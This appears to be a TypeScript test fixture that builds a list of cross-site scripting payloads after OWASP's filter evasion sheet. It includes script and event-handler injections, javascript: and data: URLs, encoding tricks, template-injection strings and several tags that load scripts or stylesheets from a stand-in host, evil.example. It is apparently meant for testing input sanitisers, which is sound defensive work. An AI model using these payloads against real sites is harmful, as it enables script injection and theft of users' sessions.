/**
 * Texts that would run something where they were put into a page as more than text, after OWASP's filter evasion sheet. Each that
 * runs says so by `alert`, by a call to another host, or by what it leaves in the page.
 */

const ALERTS = ['alert(1)', 'alert`1`', '(alert)(1)', 'top["al"+"ert"](1)', 'window.ran=1']

const HANDLERS = [
  'onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onwheel', 'onauxclick',
] // biome-ignore format: a list of names

const ELEMENTS = [
  '<script>RUN</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>RUN</scr</script>ipt>', '<script/x>RUN</script/x>', '<script\n>RUN</script\n>',
  '<img src=x onerror=RUN>', '<img src="x" onerror="RUN">', "<img src='x' onerror='RUN'>", '<img/src=x/onerror=RUN>', '<img """><script>RUN</script>">',
  '<img src=javascript:RUN>', '<svg onload=RUN>', '<svg/onload=RUN>', '<svg><script>RUN</script></svg>', '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:RUN">x</mi></math>', '<body onload=RUN>', '<iframe src="javascript:RUN"></iframe>', '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>', '<embed src="javascript:RUN">', '<link rel=stylesheet href="//evil.example/x.css">', '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">', '<form action="javascript:RUN"><button>x</button></form>', '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>', '<audio src=x onerror=RUN>', '<input autofocus onfocus=RUN>', '<marquee onstart=RUN>x</marquee>', '<style>*{background:url(//evil.example/x)}</style>',
  '<style onload=RUN></style>', '<template><script>RUN</script></template>', '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[<script>RUN</script>]]>', '<?xml version="1.0"?><script>RUN</script>', '<xss style="animation:x" onanimationstart=RUN>', '<a href="javascript:RUN">x</a>',
  '<a href="java&#115;cript:RUN">x</a>', '<a href=" &#14;javascript:RUN">x</a>', '<a href="data:text/html,<script>RUN</script>">x</a>', '<table background="javascript:RUN">',
  '</title><script>RUN</script>', '</textarea><script>RUN</script>', '</script><script>RUN</script>', '</style><script>RUN</script>', '</noscript><script>RUN</script>',
] // biome-ignore format: a list of elements

const BROKEN_OUT = [
  '" autofocus onfocus="RUN', "' autofocus onfocus='RUN", '"><svg onload=RUN>', "'><svg onload=RUN>", '`-RUN-`', '";RUN;//', "';RUN;//", '\\";RUN;//', "\\';RUN//", '*/RUN/*',
  '${RUN}', '#{RUN}', '{{RUN}}', '{{constructor.constructor("RUN")()}}', '<%= RUN %>', '[[${RUN}]]', '%3Cscript%3ERUN%3C/script%3E', '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;', '\\u003cscript\\u003eRUN\\u003c/script\\u003e', '\\x3cscript\\x3eRUN\\x3c/script\\x3e', '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '＜script＞RUN＜/script＞', 'javascript:RUN', 'JaVaScRiPt:RUN', 'javascript&colon;RUN', 'vbscript:RUN', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'expression(RUN)', 'url(javascript:RUN)', '@import "//evil.example/x.css"', '\u202e<script>RUN</script>', '<\u0000script>RUN</script>'.replace('\u0000', '\ufffd'),
] // biome-ignore format: a list of texts

export const HOSTILE_TEXTS: readonly string[] = [
  ...[...ELEMENTS, ...BROKEN_OUT].flatMap((text, n) =>
    [0, 1].map((further) => text.replaceAll('RUN', ALERTS[(n + further) % ALERTS.length] ?? 'alert(1)')),
  ),
  ...HANDLERS.map((handler) => `<p ${handler}=alert(1) tabindex=0 style="animation:x 1s">x</p>`),
]
